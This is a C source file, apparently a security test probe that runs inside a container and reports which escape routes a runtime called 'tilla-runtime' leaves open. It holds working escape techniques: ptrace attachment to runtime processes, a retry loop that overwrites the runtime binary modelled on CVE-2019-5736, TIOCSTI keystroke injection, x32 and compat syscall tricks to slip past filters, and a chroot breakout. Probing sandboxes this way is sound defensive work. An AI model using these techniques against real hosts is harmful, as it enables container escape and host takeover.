/* SPDX-License-Identifier: Apache-2.0
 * A hostile program for the inside of a container; static, says what it got hold of.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int is_runtime(const char* link) {
  return strstr(link, "tilla-runtime") != NULL || strcmp(link, "/") == 0;
}

static void read_exe(int pid, char* link, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  const ssize_t length = readlink(path, link, size - 1);
  link[length > 0 ? length : 0] = '\0';
}

/* reach PID: every way into a process that waits; one line each. */
static int do_reach(int pid) {
  static const char* const files[] = {"exe",    "mem",   "environ", "maps",
                                      "ns/mnt", "root/", "cwd/",    "fd/3"};
  for (size_t i = 0; i < sizeof files / sizeof *files; ++i) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
    const int fd = open(path, O_RDONLY);
    printf("%s %s\n", files[i], fd >= 0 ? "OPENED" : strerror(errno));
    if (fd >= 0) close(fd);
  }
  printf("trace %s\n", ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 ? "OPENED" : strerror(errno));
  return 0;
}

static int kept = -1; /* the runtime's binary, when it was within reach */

/* A process of the runtime's that is about to become somebody's program. */
static void watch_one(int pid, long* exe, long* fds, long* traced) {
  char link[512], path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  const int file = open(path, O_RDONLY);
  if (file >= 0) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    const ssize_t length = readlink(path, link, sizeof link - 1);
    link[length > 0 ? length : 0] = '\0';
    if (is_runtime(link)) ++*exe;
    if (is_runtime(link) && kept < 0) {
      kept = file;
    } else {
      close(file);
    }
  }
  snprintf(path, sizeof path, "/proc/%d/fd/3", pid);
  if (readlink(path, link, sizeof link) > 0) ++*fds;
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    read_exe(pid, link, sizeof link); /* ours by now, or still the runtime's */
    if (is_runtime(link)) ++*traced;
    (void)ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    (void)waitpid(pid, NULL, __WALL);
    (void)ptrace(PTRACE_DETACH, pid, 0, 0);
  }
}

/* As the first exploit of CVE-2019-5736: a running program can't be written, so try until it can.
 */
static const char* write_again(int file) {
  char link[64];
  snprintf(link, sizeof link, "/proc/self/fd/%d", file);
  for (int i = 0; i < 1000; ++i) {
    const int writable = open(link, O_WRONLY); /* a sealed file lets itself be opened */
    if (writable >= 0 && pwrite(writable, "\177", 1, 0) == 1) return "WRITTEN";
    if (writable >= 0) close(writable);
    usleep(1000);
  }
  return strerror(errno);
}

/* watch SECONDS: tries itself on every process that appears and is none of the image's yet. */
static int do_watch(int seconds) {
  const time_t end = time(NULL) + seconds;
  const int self = getpid();
  long seen = 0, exe = 0, fds = 0, traced = 0, words = 0;
  int newest = self;
  puts("watching");
  fflush(stdout);
  while (time(NULL) < end) {
    for (int pid = self + 1; pid < newest + 20; ++pid) {
      char path[64], line[512] = "";
      snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
      const int file = open(path, O_RDONLY);
      if (file < 0) continue;
      const ssize_t length = read(file, line, sizeof line - 1);
      close(file);
      if (pid > newest) newest = pid;
      const int is_child = length > 0 && (line[0] == '\0' || strstr(line, "tilla") != NULL);
      if (!is_child) continue;
      ++seen;
      if (memmem(line, (size_t)length, "s3cret", 6) != NULL || line[0] != '\0') ++words;
      watch_one(pid, &exe, &fds, &traced);
    }
  }
  if (kept >= 0) printf("write %s\n", write_again(kept));
  printf("seen %ld\nexe %ld\nfd %ld\ntraced %ld\nwords %ld\n", seen, exe, fds, traced, words);
  return 0;
}

/* overwrite PATH: the same with a process that waits. */
static int do_overwrite(const char* path) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return printf("read: %s\n", strerror(errno)), 0;
  printf("write: %s\n", write_again(fd));
  return 0;
}

/* type: puts a line into the terminal on standard input as if it had been typed. */
static int do_type(void) {
  static const char line[] = "echo typed\n";
  for (size_t i = 0; i + 1 < sizeof line; ++i) {
    if (ioctl(0, TIOCSTI, &line[i]) < 0) {
      printf("TIOCSTI: %s\n", strerror(errno));
      break;
    }
    if (i == 0) puts("TYPED");
  }
  const int tty = open("/dev/tty", O_RDWR);
  printf("/dev/tty: %s\n", tty >= 0 ? "OPENED" : strerror(errno));
  return 0;
}

/* mkdir WAY PATH: by the number that mkdir(2) has in another table of system calls. */
static int do_mkdir(const char* way, const char* path) {
  long result = -ENOSYS;
  puts("tries");
  fflush(stdout);
#if defined(__x86_64__)
  char* low =
      mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  strcpy(low, path);
  if (!strcmp(way, "x32")) result = syscall(0x40000000 + SYS_mkdir, low, 0755);
  if (!strcmp(way, "compat")) {
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(39L), "b"(low), "c"(0755L) : "memory");
  }
#else
  (void)way, (void)path;
#endif
  printf("%s %ld\n", way, result);
  return 0;
}

/* climb FILE: out of a chroot, by a working directory above a root that is changed once more. */
static int do_climb(const char* file) {
  const int top = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp") < 0) return printf("chroot: %s\n", strerror(errno)), 0;
  if (fchdir(top) < 0) return printf("fchdir: %s\n", strerror(errno)), 0;
  for (int i = 0; i < 64; ++i) {
    if (chdir("..") < 0) return printf("chdir: %s\n", strerror(errno)), 0;
  }
  while (*file == '/') ++file;
  const int fd = open(file, O_RDONLY);
  printf("climbed: %s\n", fd < 0 ? strerror(errno) : "REACHED");
  return 0;
}

int main(int argc, char** argv) {
  const char* verb = argc > 1 ? argv[1] : "";
  if (!strcmp(verb, "reach") && argc > 2) return do_reach(atoi(argv[2]));
  if (!strcmp(verb, "watch") && argc > 2) return do_watch(atoi(argv[2]));
  if (!strcmp(verb, "overwrite") && argc > 2) return do_overwrite(argv[2]);
  if (!strcmp(verb, "mkdir") && argc > 3) return do_mkdir(argv[2], argv[3]);
  if (!strcmp(verb, "type")) return do_type();
  if (!strcmp(verb, "climb") && argc > 2) return do_climb(argv[2]);
  return 2;
}
